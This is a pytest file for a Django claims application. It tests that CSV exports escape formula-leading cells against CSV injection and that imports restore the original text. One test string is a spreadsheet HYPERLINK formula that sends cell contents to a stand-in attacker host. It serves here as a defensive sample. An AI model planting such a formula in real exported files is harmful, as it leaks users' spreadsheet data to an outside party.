"""
A CSV export opened in a spreadsheet runs no formula a claim's text spells
(OWASP's CSV injection): a cell starting with =, +, -, @, a tab or a carriage
return goes out behind a single quote, and import takes that quote off, so
every text comes back exactly as it was (issue 21, point 11).
"""

import csv
import io

import pytest
from django.core.management import call_command

from claims.interchange.csv_format import quote_formula, read_csv, unquote_formula, write_csv
from claims.interchange.rows import FileErrors, values_for_claim
from claims.models import Claim

FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1, "Source")',
    "=1+1",
    "+44 20 7946 0000",
    "-5 percent",
    "@user said so",
    "\t=1+1 behind a tab",
    "\r=1+1 behind a carriage return",
]
TEXTS = [
    *FORMULAS,
    "'quoted",
    "'=x",
    "''=x",
    "'",
    "''",
    "'\t",
    "國際特赦組織香港辦事處將於年底前關閉",
    "=國際特赦組織",
    "Plain text with = + - @ inside",
    "",
]


def cells(text):
    """What a spreadsheet reads from the CSV of one row: {column: cell}."""
    return next(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_goes_out_behind_a_single_quote(text):
    assert quote_formula(text) == "'" + text


@pytest.mark.parametrize("text", ["'quoted", "'", "國際特赦組織", "a=1", " =1"])
def test_other_texts_go_out_as_they_are(text):
    assert quote_formula(text) == text


def test_a_text_beginning_with_quotes_before_a_formula_gets_one_more():
    # Else `'=x` would go out as it is and come back as `=x`.
    assert quote_formula("'=x") == "''=x"
    assert quote_formula("''+x") == "'''+x"


@pytest.mark.parametrize("text", TEXTS)
def test_every_text_comes_back_from_its_cell_exactly(text):
    output = io.StringIO()
    write_csv([{"claim_text": text}], output)

    cell = cells(output.getvalue())["claim_text"]

    assert unquote_formula(cell) == text
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_the_export_command_quotes_formulas_in_every_column(make_claim, make_speaker):
    speaker = make_speaker(name="@mayor", description="-former minister")
    make_claim(text="=1+1", speaker=speaker, context="+from a speech", external_id="-12")

    out = io.StringIO()
    call_command("export_claims", "--format", "csv", stdout=out)
    row = cells(out.getvalue())

    assert (row["claim_text"], row["external_id"], row["context"]) == (
        "'=1+1",
        "'-12",
        "'+from a speech",
    )
    assert (row["speaker_name"], row["speaker_description"]) == ("'@mayor", "'-former minister")


@pytest.mark.parametrize("text", [text for text in TEXTS if text.strip()])
def test_an_exported_claim_imports_as_the_text_it_was(make_claim, write_file, text):
    claim = make_claim(text=text)
    output = io.StringIO()
    write_csv([values_for_claim(claim, [])], output)
    errors = FileErrors()

    rows = list(read_csv(write_file("claims.csv", output.getvalue()), "claims.csv", errors))

    assert errors.lines == []
    # Import strips the spaces around a value, as it does for every cell.
    assert [row.claim_text for row in rows] == [text.strip()]


def test_an_export_round_trips_through_import(make_claim, import_claims, tmp_path):
    for number, text in enumerate([*FORMULAS, "'=x", "'quoted"]):
        make_claim(text=text.strip(), external_id=f"f-{number}")
    before = sorted(Claim.objects.values_list("external_id", "text"))
    path = tmp_path / "claims.csv"
    call_command("export_claims", "--format", "csv", "--output", str(path), stdout=io.StringIO())
    Claim.objects.all().delete()

    import_claims(str(path))

    assert sorted(Claim.objects.values_list("external_id", "text")) == before
